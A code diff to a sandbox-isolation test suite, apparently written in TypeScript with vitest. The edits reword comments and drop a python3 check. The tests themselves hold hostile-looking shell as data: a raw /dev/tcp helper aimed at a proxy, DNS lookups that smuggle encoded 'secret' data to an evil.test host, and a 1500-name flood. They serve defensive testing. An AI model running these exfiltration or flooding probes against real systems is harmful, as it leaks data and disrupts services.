@@ -1,9 +1,8 @@
-/** What hostile code in a sandbox tries in order to reach more than it may. */
+/** How hostile code in a sandbox tries to reach more than it may. */
 import { describe, expect, it } from "vitest";
-import { needs } from "./setup.ts";
 import type { NetworkSetup } from "./setup.ts";
 
-/** Says something to the proxy, byte by byte as given, and prints the first line of the answer. */
+/** Sends bytes to the proxy exactly as given, and prints the first line of the response. */
 const ASK = `ask() { exec 3<>/dev/tcp/127.0.0.1/3128; printf "$1" >&3; IFS= read -r -t 20 line <&3; echo "\${line%$'\\r'}"; exec 3>&-; }; `;
 
 export function attackSuite(setup: () => NetworkSetup): void {
@@ -109,7 +108,6 @@ END`;
 
     it("that are forbidden carry nothing out", async (context) => {
       if (setup().mode === "proxy") context.skip("there is no name server inside");
-      await needs(context, setup(), "/usr/bin/python3");
       const before = setup().network.asked.length;
       const names = `["secret%d.aGVsbG8gd29ybGQ.evil.test" % n for n in range(50)]`;
       expect((await setup().sh(lookUp(names))).stdout).toBe("0 50\n");
@@ -118,13 +116,12 @@ END`;
 
     it("without end take no memory, and those in use go on working", async (context) => {
       if (setup().mode === "proxy") context.skip("there is no name server inside");
-      await needs(context, setup(), "/usr/bin/python3");
       const { network, web, channel } = setup();
       network.rules.push(`*.flood.test:${String(web.port)}`);
       const names = `["n%d.flood.test" % n for n in range(1500)]`;
       const { rssBytes } = await channel.ping();
       expect((await setup().sh(lookUp(names))).stdout).toBe("1500 0\n");
-      // Half a thousand listeners are the kernel's; the runner keeps a few hundred names.
+      // The kernel holds about 500 listeners; the runner keeps a few hundred names.
       expect((await channel.ping()).rssBytes - rssBytes).toBeLessThan(1 << 20);
       const { stdout } = await setup().sh(
         "exec 3<>/dev/tcp/web.test/PORT; printf 'GET /after HTTP/1.0\\r\\n\\r\\n' >&3; tail -n 1 <&3; exec 3>&-",
